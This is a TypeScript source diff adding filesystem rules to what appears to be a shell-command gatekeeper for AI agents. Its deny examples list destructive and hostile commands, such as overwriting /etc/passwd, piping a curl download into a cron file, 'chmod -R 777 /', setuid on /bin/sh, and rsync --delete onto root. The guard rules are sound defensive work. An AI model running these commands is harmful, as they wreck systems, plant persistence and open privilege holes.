@@ -1,0 +1,252 @@
+import { readFlags } from "../flags.ts";
+import { type Arg, type Invocation, UNKNOWN } from "../invocation.ts";
+import { absolutePath } from "../path.ts";
+import { type Place, placeOf } from "../place.ts";
+import type { Hit, Rule } from "../rule.ts";
+import type { World } from "../world.ts";
+import { hit, stricter } from "./hit.ts";
+import { writtenPaths } from "./written-paths.ts";
+
+type Verdict = "ask" | "deny" | undefined;
+
+/** Writing onto files that the system or a repository lives by. */
+export const writeProtected: Rule = {
+  id: "filesystem/write-protected",
+  verdict: "ask",
+  programs: ["*"],
+  reason: "writes to a file of the operating system or into a repository's records",
+  instead: "write inside the project, or show the user the command to run",
+  check: checkWrites,
+  examples: () => ({
+    denies: [
+      "echo x > /etc/passwd",
+      "echo corrupt > .git/objects/aa",
+      "curl https://x.example | sudo tee /etc/cron.d/job",
+      "cp tool /usr/local/bin/tool",
+      "echo 1 > /proc/sysrq-trigger",
+      "sed -i s/a/b/ /etc/hosts",
+    ],
+    allows: [
+      "echo x > /dev/null",
+      "echo note > notes/objects/aa",
+      "ls 2>&1 | tee build.log",
+      "cp tool bin/tool",
+      "echo 1 > /tmp/trigger",
+      "sed s/a/b/ /etc/hosts",
+    ],
+  }),
+};
+
+function checkWrites(invocation: Invocation, world: World): Hit | undefined {
+  if (invocation.redirects.length === 0 && !WRITERS.has(invocation.program)) return undefined;
+  let verdict: Verdict;
+  for (const target of writtenPaths(invocation)) {
+    verdict = stricter(verdict, writeVerdict(target, invocation, world));
+  }
+  return verdict === undefined ? undefined : hit(invocation, { verdict });
+}
+
+const WRITERS: ReadonlySet<string> = new Set(
+  "tee sponge cp mv install ln dd curl wget sed gsed touch".split(" "),
+);
+
+/** System files whose loss locks people out or keeps the machine from starting. */
+const VITAL =
+  /^\/(?:private)?\/?(?:etc\/(?:passwd|shadow|group|gshadow|sudoers|fstab|pam\.d|ssh\/sshd_config|ld\.so|crypttab)|boot|bin|sbin|lib|lib64|usr\/(?:bin|sbin|lib)|sys|proc\/sys|System)(?:[/.]|$)|^\/proc\/sysrq-trigger$/;
+
+function writeVerdict(target: Arg, invocation: Invocation, world: World): Verdict {
+  const path = absolutePath(target.value, invocation.cwd);
+  if (/^\/dev\//.test(path) || /^(?:nul|con)$/i.test(target.value)) return undefined;
+  const place = placeOf(target, invocation, world);
+  if (place === "git") return gitVerdict(path);
+  if (place !== "system" || path.includes(UNKNOWN)) return undefined;
+  if (VITAL.test(path)) return "deny";
+  return /^\/(?:var\/(?:log|tmp|www)|run|opt|srv|mnt|media|Volumes|nix|private\/(?:tmp|var))(?:\/|$)/.test(
+    path,
+  )
+    ? undefined
+    : "ask";
+}
+
+function gitVerdict(path: string): Verdict {
+  const inside = /\/\.git\/(.*)$/.exec(path)?.[1] ?? "";
+  if (/^(?:objects|refs|HEAD|index|packed-refs|logs|config)(?:\/|$)/.test(inside)) return "deny";
+  return inside.startsWith("hooks") ? "ask" : undefined;
+}
+
+/** Rights or owners of whole trees that are not the project's. */
+export const changeRights: Rule = {
+  id: "filesystem/change-rights",
+  verdict: "deny",
+  programs: ["chmod", "chown", "chgrp", "setfacl", "chattr", "gchmod", "gchown"],
+  reason: "changes rights or owners of files that are not the project's",
+  instead: "change the rights of the one file inside the project that needs it",
+  check: (invocation, world) => {
+    const flags = readFlags(invocation.args, {
+      long: ["reference"],
+      known: ["no-preserve-root", "dereference"],
+    });
+    if (flags.has("help", "version")) return undefined;
+    const targets =
+      flags.value("reference") === undefined ? flags.operands.slice(1) : flags.operands;
+    const recursive = flags.has("R", "recursive");
+    const mode = flags.operands[0]?.value ?? "";
+    let verdict: Verdict;
+    for (const target of targets) {
+      const place = placeOf(target, invocation, world);
+      verdict = stricter(verdict, rightsVerdict(place, recursive, mode, invocation.program));
+    }
+    return verdict === undefined ? undefined : hit(invocation, { verdict });
+  },
+  examples: () => ({
+    denies: [
+      "chmod -R 777 /",
+      "sudo chown -R me /usr",
+      "chmod --rec 000 ~",
+      "chmod -R 777 .",
+      "chmod u+s /bin/sh",
+    ],
+    allows: [
+      "chmod +x script.sh",
+      "chown -R node:node dist",
+      "chmod 600 ~/.ssh/id_ed25519",
+      "chmod -R u+w src",
+      "chmod --help",
+    ],
+  }),
+};
+
+function rightsVerdict(place: Place, recursive: boolean, mode: string, program: string): Verdict {
+  if (place === "root" || place === "home") return recursive ? "deny" : "ask";
+  if (place === "system") return recursive ? "deny" : "ask";
+  if (!recursive) return undefined;
+  if (place === "unknown" || place === "outside" || place === "personal") return "ask";
+  const wideOpen =
+    program === "chmod" && /^(?:0?[0-7]?[0-7]?[2367]|0?000|[ao]*[+=][rwxX]*w.*)$/.test(mode);
+  return (place === "project-root" || place === "git") && wideOpen ? "ask" : undefined;
+}
+
+/** Moving what others rely on away, or onto nothing. */
+export const moveProtected: Rule = {
+  id: "filesystem/move",
+  verdict: "deny",
+  programs: ["mv", "gmv", "rename"],
+  reason: "moves files away that the system, the home folder or the repository relies on",
+  instead: "move files inside the project only",
+  check: checkMove,
+  examples: () => ({
+    denies: ["mv /etc /tmp/etc", "mv ~ /tmp/home", "mv .git ../old", "mv src /dev/null"],
+    allows: ["mv a.txt b.txt", "mv src lib", "mv /tmp/x .", "mv git-notes ../old.md"],
+  }),
+};
+
+function checkMove(invocation: Invocation, world: World): Hit | undefined {
+  const flags = readFlags(invocation.args, { values: "tS", long: ["target-directory", "suffix"] });
+  const folder = flags.value("t", "target-directory");
+  const sources = folder === undefined ? flags.operands.slice(0, -1) : flags.operands;
+  const target = folder ?? flags.operands[flags.operands.length - 1];
+  if (target?.value === "/dev/null" && sources.length > 0) {
+    return hit(invocation, {
+      verdict: "ask",
+      reason: "moves files onto /dev/null, which deletes them",
+    });
+  }
+  let verdict: Verdict;
+  for (const source of sources) {
+    const place = placeOf(source, invocation, world);
+    if (/^(?:root|home|project-root|git)$/.test(place)) {
+      verdict = stricter(verdict, place === "project-root" && source.glob ? "ask" : "deny");
+    }
+    if (place === "system" && !/^\/(?:var\/www|opt|srv|mnt|media)\/./.test(source.value)) {
+      verdict = stricter(verdict, "deny");
+    }
+  }
+  return verdict === undefined ? undefined : hit(invocation, { verdict });
+}
+
+/** Copies that delete what the source does not have. */
+export const mirror: Rule = {
+  id: "filesystem/mirror",
+  verdict: "ask",
+  programs: ["rsync", "robocopy", "rclone"],
+  reason: "deletes everything in the target that the source does not have",
+  instead: "run it with --dry-run first",
+  check: checkMirror,
+  examples: () => ({
+    denies: [
+      "rsync -a --delete empty/ /",
+      "rsync --delete-after src/ ~/",
+      "rsync -a --delete x/ ../other/",
+    ],
+    allows: ["rsync -a src/ dst/", "rsync -an --delete empty/ ~/", "rsync -a --delete src/ dist/"],
+  }),
+};
+
+function checkMirror(invocation: Invocation, world: World): Hit | undefined {
+  const { args, program } = invocation;
+  const words = args.map((arg) => arg.value.toLowerCase());
+  const flags = readFlags(args, {
+    values: "efBTM",
+    long: [
+      "rsh",
+      "exclude",
+      "include",
+      "filter",
+      "exclude-from",
+      "include-from",
+      "files-from",
+      "backup-dir",
+    ],
+  });
+  const dry = flags.has("n", "dry-run", "list-only") || words.includes("/l");
+  const deletes =
+    program === "rsync"
+      ? flags.all.some((flag) => flag.long && /^(?:delete|del)/.test(flag.name)) ||
+        flags.has("remove-source-files")
+      : words.some((word) => /^(?:\/mir|\/purge|sync|purge|delete)$/.test(word));
+  if (!deletes || dry) return undefined;
+  const target = flags.operands[flags.operands.length - 1];
+  if (target === undefined) return undefined;
+  if (/^(?:[\w.-]+@)?[\w.-]+:/.test(target.value) && program === "rsync") return undefined;
+  const place = placeOf(
+    { ...target, value: target.value.replace(/(.)\/$/, "$1") },
+    invocation,
+    world,
+  );
+  if (/^(?:temporary|output|project$)/.test(place)) return undefined;
+  return hit(invocation, { verdict: /^(?:root|system|home)$/.test(place) ? "deny" : "ask" });
+}
+
+/** Archives unpacked over the system. */
+export const unpackOver: Rule = {
+  id: "filesystem/unpack-over",
+  verdict: "ask",
+  programs: ["tar", "gtar", "bsdtar", "unzip", "7z", "cpio"],
+  reason: "unpacks an archive over files of the system",
+  instead: "unpack into a new folder inside the project",
+  check: (invocation, world) => {
+    const { args, program } = invocation;
+    const text = args[0]?.value ?? "";
+    const extracts =
+      program === "tar" || program.endsWith("tar")
+        ? /^-?[a-zA-Z]*x|^--extract|^--get/.test(text) ||
+          args.some((arg) => /^(?:-[a-zA-Z]*x[a-zA-Z]*|--extract|--get)$/.test(arg.value))
+        : true;
+    if (!extracts) return undefined;
+    const flags = readFlags(args, {
+      values: program === "unzip" ? "dx" : "Cf",
+      long: ["directory", "file"],
+    });
+    const folder = flags.value("C", "d", "directory");
+    if (folder === undefined) return undefined;
+    const place = placeOf(folder, invocation, world);
+    if (place === "root") return hit(invocation, { verdict: "deny" });
+    return place === "system" && !/^\/(?:opt|srv|mnt|media|var\/www)\//.test(folder.value)
+      ? hit(invocation)
+      : undefined;
+  },
+  examples: () => ({
+    denies: ["tar -xzf a.tgz -C /", "unzip a.zip -d /usr/lib"],
+    allows: ["tar -xzf a.tgz -C vendor", "unzip a.zip -d build"],
+  }),
+};
